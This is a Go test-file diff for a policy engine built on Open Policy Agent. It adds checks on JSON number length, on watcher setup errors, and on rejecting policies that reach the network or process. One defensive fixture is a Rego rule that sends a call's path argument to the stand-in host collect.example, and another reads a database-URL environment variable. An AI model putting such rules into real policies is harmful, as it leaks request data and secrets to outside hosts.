@@ -11,6 +11,7 @@ import (
 	"sync"
 	"testing"
 
+	"github.com/fsnotify/fsnotify"
 	"github.com/open-policy-agent/opa/v1/ast"
 )
 
@@ -47,6 +48,10 @@ func TestParseObjectRules(t *testing.T) {
 		{`{'a':1}`, "must be valid JSON"},
 		{"{\"a\":\"\xc3\"}", "valid UTF-8"},
 		{`{"a":"` + strings.Repeat("x", MaxJSONBytes) + `"}`, "at most 1048576 bytes"},
+		// A number is at most MaxNumberChars long, however deep.
+		{`{"n":` + strings.Repeat("9", MaxNumberChars) + `}`, ""},
+		{`{"n":[{"m":` + strings.Repeat("9", MaxNumberChars+1) + `}]}`, "numbers must be at most 128 characters"},
+		{`{"n":"` + strings.Repeat("9", 1000) + `"}`, ""}, // a string of digits is a string
 	}
 	for i, tt := range tests {
 		_, err := ParseObject([]byte(tt.in))
@@ -131,6 +136,35 @@ func TestLoadRejectsConflictsAndEmpty(t *testing.T) {
 		if err == nil {
 			t.Errorf("%s: loaded without error", name)
 		}
+	}
+}
+
+// A policy may not reach the network or the process: one that calls
+// http.send, net.lookup_ip_addr or opa.runtime does not load (its decisions
+// could send a call's arguments anywhere, wait on a resolver, or read the
+// environment); a pure built-in (net.cidr_contains) still does.
+func TestPoliciesCannotReachTheNetworkOrTheProcess(t *testing.T) {
+	for _, call := range []string{
+		`http.send({"method": "GET", "url": sprintf("http://collect.example/?p=%v", [input.arguments.path])}).status_code == 200`,
+		`count(net.lookup_ip_addr("db.example.internal")) > 0`,
+		`opa.runtime().env.SHAREDOS_DATABASE_URL != ""`,
+	} {
+		policy := "package sharedos.authz\n\nimport rego.v1\n\ndecision := {\"allow\": allowed, \"reason\": \"\"}\n\ndefault allowed := false\n\nallowed if " + call + "\n"
+		fs, err := readPolicyDir(writeTree(t, map[string]string{"p.rego": policy}))
+		if err == nil {
+			_, err = prepare(context.Background(), fs)
+		}
+		if err == nil || !strings.Contains(err.Error(), "undefined function") {
+			t.Errorf("%s: loaded (%v)", call, err)
+		}
+	}
+	pure := "package sharedos.authz\n\nimport rego.v1\n\ndecision := {\"allow\": net.cidr_contains(\"10.0.0.0/8\", \"10.1.2.3\"), \"reason\": \"\"}\n"
+	fs, err := readPolicyDir(writeTree(t, map[string]string{"p.rego": pure}))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := prepare(context.Background(), fs); err != nil {
+		t.Errorf("a policy with a pure built-in: %v", err)
 	}
 }
 
@@ -271,5 +305,20 @@ func TestAReloadFailureIsLoggedBeforeItShows(t *testing.T) {
 	}
 	if e.LastReloadError() == nil {
 		t.Error("LastReloadError is nil after a failed reload")
+	}
+}
+
+// A watch that cannot be set up (inotify instances used up) is an error,
+// not a silent absence of reloads.
+func TestWatchSetupFailureIsAnError(t *testing.T) {
+	dir := writeTree(t, map[string]string{"p.rego": readsData, "data.json": `{"root":{"ok":true},"sub":{"dir":{"flag":1}}}`})
+	e, err := New(context.Background(), Options{Dir: dir, Logger: slog.New(slog.DiscardHandler)})
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer func(f func() (*fsnotify.Watcher, error)) { newWatcher = f }(newWatcher)
+	newWatcher = func() (*fsnotify.Watcher, error) { return nil, errors.New("too many open files") }
+	if err := e.Watch(t.Context()); err == nil || !strings.Contains(err.Error(), "too many open files") {
+		t.Errorf("Watch = %v, want the setup error", err)
 	}
 }
